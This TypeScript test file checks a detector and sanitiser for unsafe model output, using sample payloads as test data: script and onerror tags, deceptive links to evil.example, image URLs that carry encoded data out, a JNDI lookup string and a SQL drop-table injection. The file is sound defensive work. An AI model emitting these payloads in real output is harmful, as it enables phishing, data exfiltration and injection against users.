import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { createKeywordScan } from '../keyword-scan.ts';
import { foldedView, plainView } from '../view.ts';
import { sanitise } from './sanitise.ts';
import { findUnsafeOutput } from './unsafe-output.ts';
import { UNSAFE_OUTPUT_SIGNATURES } from './unsafe-output-signatures.ts';

const scan = createKeywordScan(UNSAFE_OUTPUT_SIGNATURES);
const find = (text: string) => {
  const folded = foldedView(plainView(text));
  return findUnsafeOutput(folded, { open: scan(folded.text) });
};
const types = (text: string) => [...new Set(find(text).map(({ entityType }) => entityType))];
const detectors = (text: string) => find(text).map(({ detector }) => detector);

describe('an output that would be run', () => {
  for (const { id, entityType, examples } of UNSAFE_OUTPUT_SIGNATURES) {
    it(`${id} matches its true examples and none of its false ones`, () => {
      const isFound = (example: string): boolean => types(example).some((type) => type === entityType);
      assert.deepEqual([...examples.matches.filter((example) => !isFound(example)), ...examples.misses.filter(isFound)], []);
    });
  }

  it('is reported in every place, in positions of the original', () => {
    const text = 'Ａ <ScRiPt >x</sCrIpT> and <img\n\n\tsrc=x oneRROR=y>';
    assert.deepEqual(
      find(text).map(({ start, end }) => text.slice(start, end)),
      ['<ScRiPt >', '</sCrIpT>', '<img\n\n\tsrc=x oneRROR=y>'],
    );
  });

  it('counts half in code, between fences and between backticks', () => {
    const scores = (text: string) => find(text).map(({ score }) => score);
    assert.deepEqual(scores('<script>'), [0.7]);
    for (const text of ['```html\n<script>\n```\n', '```\n<script>', 'use `<script>` here', '~~~\n<script>\n~~~'])
      assert.deepEqual(scores(text), [0.35], text);
    assert.deepEqual(scores('```\ncode\n```\n<script>'), [0.7]);
  });

  it('is not what people are told about databases, shells and pages', () => {
    const ordinary = [
      "SELECT name FROM users WHERE city = 'Paris' AND age > 30; -- all of them",
      "It's a dog's life, and she said 'yes' or 'no'.",
      'Run npm install && npm test, then rm -r build.',
      'Download it with `curl -O https://example.com/a.tar.gz` and unpack it.',
      'Hello {{ name }}, your order ${id} has shipped <b>today</b>.',
      'if (a < b && c > d) { return `${a}`; }',
      'See [the guide](https://docs.example.com/start?lang=en#top) or https://example.com:8080/a@b.',
      '![chart](https://quickchart.example/c.png?w=300&h=200)',
      'Open http://localhost:3000 or http://192.168.1.10/admin.',
      '<details><summary>More</summary>text</details>',
    ];
    for (const text of ordinary) assert.deepEqual(types(text), [], text);
  });
});

describe('an unsafe link', () => {
  const cases: readonly (readonly [text: string, detector: string])[] = [
    ['https://www.mybank.com@evil.example/login', 'output.link-userinfo'],
    ['https://mybank.com%2f@evil.example/', 'output.link-userinfo'],
    ['https://pаypal.com/login', 'output.link-mixed-script'],
    ['[pay](https://xn--pypal-4ve.com/)', 'output.link-punycode'],
    ['http://93.184.216.34/a', 'output.link-number'],
    ['http://3627734734/', 'output.link-number'],
    ['http://[2606:2800:220:1::1]/', 'output.link-number'],
    ['[www.mybank.com](https://evil.example/login)', 'output.link-text'],
    ['[https://mybank.co.uk/a](https://evil.co.uk/a)', 'output.link-text'],
    ['<a class="x" href="https://evil.example">https://mybank.com</a>', 'output.link-text'],
    [`![x](https://evil.example/p.png?d=${'YWJj'.repeat(30)})`, 'output.image-query'],
    ['![x](//evil.example/p.png?d={secret})', 'output.image-query'],
    [`<img src="https://evil.example/p.png?d=${'YWJj'.repeat(30)}">`, 'output.image-query'],
  ];
  for (const [text, detector] of cases)
    it(`is found by ${detector} in ${text.slice(0, 50)}`, () => assert.deepEqual(detectors(text), [detector]));

  it('is none that leads where it says', () => {
    const fine = [
      '[www.example.com](https://example.com/x)',
      '[docs.example.com](https://www.example.com/docs)',
      '[package.json](https://github.com/a/b/package.json)',
      '[Node.js](https://nodejs.org)',
      '[ASP.NET](https://microsoft.com)',
      'https://user@example.com/',
      'https://例え.jp/パス',
      'https://medium.com/@ada/post',
    ];
    for (const text of fine) assert.deepEqual(detectors(text), [], text);
  });
});

describe('sanitising', () => {
  const sanitised = (text: string) => sanitise(text, find(text));

  it('escapes elements, breaks schemes, drops what an image carries, and takes templates apart', () => {
    assert.equal(sanitised('a <b>c</b> <script>x()</script>'), 'a <b>c</b> &lt;script&gt;x()&lt;/script&gt;');
    assert.equal(sanitised('[x](javascript:alert(1))'), '[x](unsafe:javascript:alert(1))');
    assert.equal(sanitised('go to https://mybank.com@evil.example/'), 'go to hxxps://mybank.com@evil.example/');
    assert.equal(sanitised(`![x](https://evil.example/p.png?d=${'a'.repeat(200)})!`), '![x](https://evil.example/p.png)!');
    assert.equal(sanitised('{{7*7}} ${jndi:ldap://x/a}'), '{\\{7*7}} $\\{jndi:ldap://x/a}');
  });

  it('leaves what nothing makes safe, and findings of other categories', () => {
    assert.equal(sanitised("x'; drop table users; --"), "x'; drop table users; --");
    const other = { category: 'pii', entityType: 'HTML_INJECTION', detector: 'x', start: 0, end: 3 };
    assert.equal(sanitise('<b>', [other]), '<b>');
  });

  it('leaves nothing that would be neutralised again, whatever the text', () => {
    const piece = fc.oneof(
      fc.constantFrom(...UNSAFE_OUTPUT_SIGNATURES.flatMap(({ examples }) => [...examples.matches, ...examples.misses])),
      fc.constantFrom(
        '<script',
        '>',
        '<img src=x onerror=',
        'java\u200bscript:alert(1)',
        'ｈttps://a.com@b.io/',
        '𝐡𝐭𝐭𝐩://a.com@b.io/',
        'j\u00adavascript:x()',
        '＜script＞',
        '[a.com](//b.io)',
        '![a](https://b.io/?a={b})',
        ' ',
        '\n',
        '<',
        '"',
        '`',
        '{{',
        '}}',
      ),
      fc.string({ maxLength: 6 }),
    );
    const neutralised: ReadonlySet<string> = new Set(['HTML_INJECTION', 'UNSAFE_LINK', 'TEMPLATE_INJECTION']);
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
        const safe = sanitised(pieces.join(''));
        assert.deepEqual(
          find(safe).filter(({ entityType }) => neutralised.has(entityType)),
          [],
          JSON.stringify(safe),
        );
      }),
      { numRuns: 1_000 },
    );
  });
});
